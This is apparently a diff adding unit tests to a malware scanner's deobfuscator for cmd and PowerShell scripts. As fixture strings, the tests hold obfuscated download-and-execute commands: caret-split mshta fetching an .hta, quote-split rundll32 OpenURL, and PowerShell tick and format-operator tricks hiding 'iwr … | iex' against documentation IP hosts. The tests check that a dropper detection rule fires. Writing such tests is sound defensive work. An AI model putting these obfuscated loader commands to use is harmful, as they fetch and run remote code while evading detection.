@@ -62,3 +62,26 @@ def test_character_references_to_letters_and_operators_are_decoded() -> None:
     assert deobfuscate("Tom &amp; Jerry &lt;b&gt; it&#39;s &#8217; &quot;x&quot; &#60;") is None
     assert deobfuscate("one &#43; two") is None  # a single reference is no obfuscation
     assert wants(b"win &#43; r") and wants(b"ctrl &plus; v")
+
+
+def test_cmd_carets_and_quote_pairs_inside_words() -> None:
+    src = 'm^s^h^t^a.exe ht^tps://203.0.113.62/x.hta\nr"un"dl"l"32.exe url.dll,OpenURL http://x/y'
+    assert deobfuscate(src) == "mshta.exe https://203.0.113.62/x.hta\nrundll32.exe url.dll,OpenURL http://x/y"
+    # cmd's ordinary escapes are not inside words and stay
+    assert deobfuscate('echo Tom ^& Jerry ^<b^>\nset "OUT=C:\\x y"') is None
+
+
+def test_powershell_ticks_format_operator_and_calls_through_variables() -> None:
+    src = ("$c = (\"{1}{0}\" -f 'wr','i'); $x = ('{1}{0}' -f 'ex','i')\n& $c -Uri http://x/f.ps1 | & $x\n"
+           "i`n`v`o`k`e-e`x`p`r`e`s`s`i`o`n")
+    assert deobfuscate(src) == ('$c = ("iwr"); $x = ("iex")\niwr -Uri http://x/f.ps1 | iex\ninvoke-expression')
+    # tabs and newlines in strings, the format operator on variables: ordinary PowerShell, no view
+    assert deobfuscate('Write-Host "a`tb`nc"; "{0} files" -f $n; $t = "git"; & $t status') is None
+
+
+def test_shell_files_are_deobfuscated_whatever_their_words() -> None:
+    """A .ps1 whose every tell-tale word is ticked holds none of the probe words; its name asks for the view."""
+    script = "i`w`r -Uri http://203.0.113.80/f.ps1 -UseBasicParsing | i`e`x\n"
+    report = Scanner(Settings(result_cache=False)).scan_bytes(script.encode(), "fix.ps1")
+    hits = [f for f in report.findings if f.id == "SCAM_Dropper_PS_Download_Execute_Stealth"]
+    assert hits and hits[0].location[-1] == "deobfuscated.txt"
